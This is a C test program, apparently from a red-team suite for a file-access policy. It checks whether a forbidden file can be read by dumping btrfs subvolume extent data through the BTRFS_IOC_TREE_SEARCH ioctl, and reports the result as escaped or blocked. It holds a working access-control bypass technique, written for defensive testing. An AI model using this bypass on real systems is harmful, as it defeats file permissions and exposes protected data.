/* btrfs_search.c DIR: read a file the table refuses through btrfs's tree search (red team 83).
 * DIR, a directory of the btrfs the table lets be read, is opened, the file system synced (a
 * file's extents are written at its writeback), and BTRFS_IOC_TREE_SEARCH
 * returns the items of its subvolume's tree -- a small file's inline extent holds its bytes --
 * for every file of the subvolume, names no rule is asked about.  ESCAPED when an item holds
 * the secret; BLOCKED with the failing step's errno otherwise.  Root (CAP_SYS_ADMIN) and a
 * btrfs (the test mounts an image).
 */
#include "attack.h"

#include <linux/btrfs.h>
#include <linux/btrfs_tree.h>
#include <sys/ioctl.h>

int main(int argc, char **argv) {
    if (argc != 2)
        blocked("usage: %s DIR", argv[0]);
    int dir = open(argv[1], O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (dir < 0)
        blocked("open %s: %s", argv[1], ename(errno));
    if (syncfs(dir) < 0)
        blocked("syncfs %s: %s", argv[1], ename(errno));
    static struct btrfs_ioctl_search_args args;
    args.key.tree_id = 0;  /* the descriptor's own subvolume */
    args.key.max_objectid = (__u64)-1;
    args.key.min_type = BTRFS_EXTENT_DATA_KEY;
    args.key.max_type = BTRFS_EXTENT_DATA_KEY;
    args.key.max_offset = (__u64)-1;
    args.key.max_transid = (__u64)-1;
    args.key.nr_items = 4096;
    if (ioctl(dir, BTRFS_IOC_TREE_SEARCH, &args) < 0)
        blocked("BTRFS_IOC_TREE_SEARCH %s: %s", argv[1], ename(errno));
    if (memmem(args.buf, sizeof args.buf, SECRET_MAGIC, strlen(SECRET_MAGIC)))
        escaped("read the secret in %s's tree (%u items)", argv[1], args.key.nr_items);
    blocked("%u items, no secret", args.key.nr_items);
}
